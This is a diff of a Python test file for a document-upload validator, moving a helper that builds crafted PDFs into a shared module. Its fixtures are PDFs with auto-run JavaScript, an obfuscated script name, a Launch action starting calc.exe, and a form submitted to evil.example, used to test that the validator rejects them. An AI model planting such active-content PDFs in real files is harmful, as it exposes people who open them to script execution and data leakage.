@@ -114,24 +114,6 @@ REFUSED: dict[str, bytes] = {
 PDF = papers.pdf()
 
 
-def active_pdf(entry: str, *objects: str) -> bytes:
-    """A PDF of one page whose catalogue has one entry more; further objects are numbered from 4."""
-    body = [f"<</Type /Catalog /Pages 2 0 R {entry}>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>",
-            "<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>", *objects]  # fmt: skip
-    out, places = b"%PDF-1.7\n", []
-    for number, content in enumerate(body, 1):
-        places.append(len(out))
-        out += f"{number} 0 obj {content} endobj\n".encode()
-    table = "".join(f"{place:010} 00000 n \n" for place in places)
-    return (
-        out
-        + (
-            f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n{table}trailer <</Root 1 0 R /Size {len(body) + 1}>>\n"
-            f"startxref\n{len(out)}\n%%EOF"
-        ).encode()
-    )
-
-
 def locked_pdf() -> bytes:
     writer, out = PdfWriter(clone_from=io.BytesIO(PDF)), io.BytesIO()
     writer.encrypt("secret", algorithm="AES-256")
@@ -144,24 +126,24 @@ _EXTERNAL = {"Target": "https://evil.example/x", "TargetMode": "External"}
 UNFIT: dict[str, tuple[str, bytes]] = {
     "nine bytes of PDF": ("a.pdf", b"%PDF-1.7\n"),
     "half a PDF": ("a.pdf", PDF[: len(PDF) // 2]),
-    "PDF without pages": ("a.pdf", active_pdf("").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")),
+    "PDF without pages": ("a.pdf", papers.active_pdf("").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")),
     "PDF with a password": ("a.pdf", locked_pdf()),
-    "PDF that is a page of a loop": ("a.pdf", active_pdf("").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
-    "PDF with a script": ("a.pdf", active_pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>")),
-    "PDF with a hidden script": ("a.pdf", active_pdf("/OpenAction 4 0 R", "<</S /J#61vaScript /J#53 (app.alert(1))>>")),
+    "PDF that is a page of a loop": ("a.pdf", papers.active_pdf("").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
+    "PDF with a script": ("a.pdf", papers.active_pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>")),
+    "PDF with a hidden script": ("a.pdf", papers.active_pdf("/OpenAction 4 0 R", "<</S /J#61vaScript /J#53 (app.alert(1))>>")),
     "PDF with a script of its names": (
         "a.pdf",
-        active_pdf("/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", "<</S /JavaScript>>"),
+        papers.active_pdf("/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", "<</S /JavaScript>>"),
     ),
-    "PDF that starts a program": ("a.pdf", active_pdf("/OpenAction <</S /Launch /F (calc.exe)>>")),
-    "PDF that sends a form": ("a.pdf", active_pdf("/AA <</WC <</S /SubmitForm /F (https://evil.example)>>>>")),
-    "PDF with a form of XML": ("a.pdf", active_pdf("/AcroForm <</XFA [] /Fields []>>")),
+    "PDF that starts a program": ("a.pdf", papers.active_pdf("/OpenAction <</S /Launch /F (calc.exe)>>")),
+    "PDF that sends a form": ("a.pdf", papers.active_pdf("/AA <</WC <</S /SubmitForm /F (https://evil.example)>>>>")),
+    "PDF with a form of XML": ("a.pdf", papers.active_pdf("/AcroForm <</XFA [] /Fields []>>")),
     "PDF with a file inside": (
         "a.pdf",
-        active_pdf("/Names <</EmbeddedFiles <</Names [(a) 4 0 R]>>>>", "<</Type /Filespec /EF <<>>>>"),
+        papers.active_pdf("/Names <</EmbeddedFiles <</Names [(a) 4 0 R]>>>>", "<</Type /Filespec /EF <<>>>>"),
     ),
-    "PDF with a film": ("a.pdf", active_pdf("/X 4 0 R", "<</Type /Annot /Subtype /RichMedia>>")),
-    "PDF that opens another inside": ("a.pdf", active_pdf("/OpenAction <</S /GoToE /T <<>>>>")),
+    "PDF with a film": ("a.pdf", papers.active_pdf("/X 4 0 R", "<</Type /Annot /Subtype /RichMedia>>")),
+    "PDF that opens another inside": ("a.pdf", papers.active_pdf("/OpenAction <</S /GoToE /T <<>>>>")),
     "three bytes of JPEG": ("a.jpg", b"\xff\xd8\xff"),
     "half a JPEG": ("a.jpg", papers.picture("JPEG", (400, 400))[:900]),
     "head of a PNG": ("a.png", papers.picture()[:20]),
@@ -200,7 +182,7 @@ UNFIT: dict[str, tuple[str, bytes]] = {
     "signed document, one bit changed": ("a.p7s", flipped(OLENA.sign(b"I certify this."), b"certify")),
     "signed program": ("a.p7s", OLENA.sign(b"MZ\x90\0" + b"\0" * 60)),
     "signed page": ("a.p7s", OLENA.sign(b"<html><script>alert(1)</script>")),
-    "signed PDF with a script": ("a.p7s", OLENA.sign(active_pdf("/OpenAction <</S /JavaScript /JS (a)>>"))),
+    "signed PDF with a script": ("a.p7s", OLENA.sign(papers.active_pdf("/OpenAction <</S /JavaScript /JS (a)>>"))),
     "signature of a signature": ("a.p7s", OLENA.sign(OLENA.sign(PDF))),
     "signed nothing": ("a.p7s", OLENA.sign(b"")),
     "container, one file changed": ("a.asice", papers.altered(papers.container({"a.txt": b"one"}, OLENA), "a.txt", b"two")),
@@ -244,7 +226,7 @@ UNFIT: dict[str, tuple[str, bytes]] = {
 # What a request may hold: it is kept, and handed out only to be saved.
 KEPT: dict[str, tuple[str, bytes]] = {
     "plain document": ("a.pdf", PDF),
-    "document with a link": ("a.pdf", active_pdf("/X 4 0 R", "<</S /URI /URI (https://example.org)>>")),
+    "document with a link": ("a.pdf", papers.active_pdf("/X 4 0 R", "<</S /URI /URI (https://example.org)>>")),
     "document that is a page too": ("a.pdf", PDF + SCRIPT.encode()),
     "document with the ending in capitals": ("A.PDF", PDF),
     "document without an ending": ("certificate", PDF),
